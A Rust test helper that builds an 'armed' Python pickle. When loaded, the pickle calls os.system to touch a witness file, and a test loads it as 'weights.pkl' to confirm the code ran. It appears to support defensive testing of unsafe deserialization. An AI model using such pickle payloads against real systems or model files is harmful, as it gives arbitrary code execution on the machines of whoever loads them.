//! An armed pickle, as an attacker would write it.

use std::path::Path;

/// A pickle (protocol 2) that, if it were loaded, called `os.system` to make the file `witness`.
#[must_use]
pub fn that_touches(witness: &Path) -> Vec<u8> {
    let mut bytes = b"\x80\x02".to_vec();
    bytes.extend_from_slice(b"cos\nsystem\n");
    bytes.extend_from_slice(format!("(S'touch {}'\ntR.", witness.display()).as_bytes());
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::process::Command;

    /// What is not armed proves nothing: a real Python has to run it.
    #[test]
    fn the_pickle_is_armed() {
        let folder = tempfile::tempdir().unwrap();
        let witness = folder.path().join("executed");
        let path = folder.path().join("weights.pkl");
        std::fs::write(&path, that_touches(&witness)).unwrap();
        let load = format!("import pickle; pickle.load(open('{}', 'rb'))", path.display());
        match Command::new("python3").args(["-c", &load]).status() {
            Ok(_) => assert!(witness.exists()),
            Err(_) => eprintln!("skipped: there is no python3 to load it with"),
        }
    }
}
